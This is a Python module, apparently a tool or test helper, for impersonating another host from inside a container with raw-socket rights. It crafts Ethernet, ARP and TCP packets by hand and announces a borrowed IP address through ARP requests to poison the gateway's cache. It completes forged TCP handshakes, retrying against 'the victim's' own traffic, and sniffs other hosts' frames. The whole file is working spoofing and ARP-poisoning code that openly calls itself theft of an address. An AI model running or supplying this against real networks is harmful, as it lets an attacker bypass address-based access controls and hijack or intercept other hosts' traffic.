"""A TCP conversation held by frames of one's own making, in the name of another address.

A pod with CAP_NET_RAW can do this, and containers have that by default: nothing of the kernel's own
TCP is used, so that neither the address nor the MAC address need to be the pod's.
"""

from __future__ import annotations

import random
import socket
import struct
import time
from collections.abc import Iterator
from typing import NamedTuple

ETHERTYPE_ARP, ETHERTYPE_IP = 0x0806, 0x0800
BROADCAST = b"\xff" * 6
_AFTER_THE_END = 1000
"""Frames that are read after the time for them: a flood ends all the same."""
FIN, SYN, RST, PSH, ACK, SYN_ACK = 0x01, 0x02, 0x04, 0x08, 0x10, 0x12


def checksum(data: bytes) -> int:
    """Return the internet checksum (RFC 1071)."""
    total: int = sum(
        struct.unpack(f"!{len(data) // 2 + len(data) % 2}H", data + bytes(len(data) % 2))
    )
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Segment(NamedTuple):
    """A TCP segment that was seen."""

    origin: str
    to: str
    port: int
    """Of the receiver."""
    sequence: int
    acknowledged: int
    flags: int
    data: bytes


def parse_segment(packet: bytes) -> Segment | None:
    """Read an IPv4 packet; None if it is no whole TCP segment."""
    start, length = (packet[0] & 15) * 4, struct.unpack("!H", packet[2:4])[0]
    if packet[9] != socket.IPPROTO_TCP or length < start + 20:
        return None
    tcp = packet[start:length]
    port, sequence, acknowledged, offset, flags = struct.unpack("!HIIBB", tcp[2:14])
    origin, to = (socket.inet_ntoa(packet[at : at + 4]) for at in (12, 16))
    data = tcp[(offset >> 4) * 4 :]
    return Segment(origin, to, port, sequence, acknowledged, flags, data)


class Gateway(NamedTuple):
    """The next hop. The forger asks for its MAC address in its own name, which nobody hinders."""

    address: str
    mac: bytes


class Wire:
    """Frames on an interface, sent from `mac` in the name of `address`."""

    def __init__(self, mac: bytes, address: str, interface: str = "eth0") -> None:
        self.mac, self._address = mac, socket.inet_aton(address)
        self._socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self._socket.bind((interface, 0))

    def request_arp(self, target: str) -> None:
        """Ask for `target`, which tells it, by the way, that our address is at our MAC address."""
        head = struct.pack("!HHBBH", 1, ETHERTYPE_IP, 6, 4, 1)
        body = self.mac + self._address + bytes(6) + socket.inet_aton(target)
        self.send(BROADCAST, ETHERTYPE_ARP, head + body)

    def resolve(self, target: str, deadline: float) -> bytes:
        """Return the MAC address of `target`; raise TimeoutError at `deadline` (monotonic)."""
        wanted = socket.inet_aton(target)
        while time.monotonic() < deadline:
            self.request_arp(target)
            for kind, body in self.frames(0.2):
                if kind == ETHERTYPE_ARP and body[6:8] == b"\0\2" and body[14:18] == wanted:
                    return body[8:14]
        raise TimeoutError(f"{target} does not answer ARP")

    def converse(
        self, to: tuple[str, int], via: Gateway, request: bytes, seconds: float, *, port: int = 0
    ) -> bytes:
        """Connect to `to` by way of `via`, send `request`, return the first data of the answer.

        Tries again until it works, since the victim's own packets undo the theft; raises
        TimeoutError. `port` 0: any.
        """
        deadline = time.monotonic() + seconds
        local = port or random.randrange(20000, 60000)  # noqa: S311 - no secret
        while time.monotonic() < deadline:
            first = random.randrange(1 << 31)  # noqa: S311 - no secret
            self.request_arp(via.address)
            self.send_tcp(via.mac, to, local, (first, 0), SYN)
            for segment in self.segments(to[0], 0.5, port=local):
                if segment.flags & SYN_ACK == SYN_ACK:
                    numbers = (first + 1, segment.sequence + 1)
                    self.send_tcp(via.mac, to, local, numbers, ACK)
                    self.send_tcp(via.mac, to, local, numbers, ACK | PSH, data=request)
                elif segment.data:
                    return segment.data
            local += not port  # another conversation, unless it must be this one
        raise TimeoutError("no conversation came about")

    def send_tcp(
        self,
        via: bytes,
        to: tuple[str, int],
        port: int,
        numbers: tuple[int, int],
        flags: int,
        *,
        data: bytes = b"",
    ) -> None:
        """Send one segment; `numbers` are its sequence and acknowledged number."""
        destination = socket.inet_aton(to[0])
        tcp = struct.pack("!HHIIBBHHH", port, to[1], *numbers, 5 << 4, flags, 64000, 0, 0)
        pseudo = self._address + destination + struct.pack("!BBH", 0, 6, len(tcp) + len(data))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp + data)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp) + len(data), 1, 0, 64, 6, 0)
        ip += self._address + destination
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        self.send(via, ETHERTYPE_IP, ip + tcp + data)

    def segments(self, origin: str, seconds: float, *, port: int = 0) -> Iterator[Segment]:
        """Yield what `origin` sends in that time, to any address; to `port` only if one is given.

        Of others' conversations, too, where the bridge brings their frames here.
        """
        for kind, body in self.frames(seconds):
            found = parse_segment(body) if kind == ETHERTYPE_IP else None
            if found is not None and found.origin == origin and port in {0, found.port}:
                yield found

    def frames(self, seconds: float) -> Iterator[tuple[int, bytes]]:
        """Yield type and content of what arrives in that time, whomever it is for.

        So it does with what waits when the time is over: this process may have stood still.
        """
        end, late = time.monotonic() + seconds, 0
        while late < _AFTER_THE_END:
            left = max(end - time.monotonic(), 0.0)
            late += not left
            self._socket.settimeout(left)
            try:
                frame, origin = self._socket.recvfrom(65535)
            except (TimeoutError, BlockingIOError):
                return
            if origin[2] != socket.PACKET_OUTGOING:
                yield struct.unpack("!H", frame[12:14])[0], frame[14:]

    def send(self, to: bytes, kind: int, content: bytes) -> None:
        self._socket.send(to + self.mac + struct.pack("!H", kind) + content)
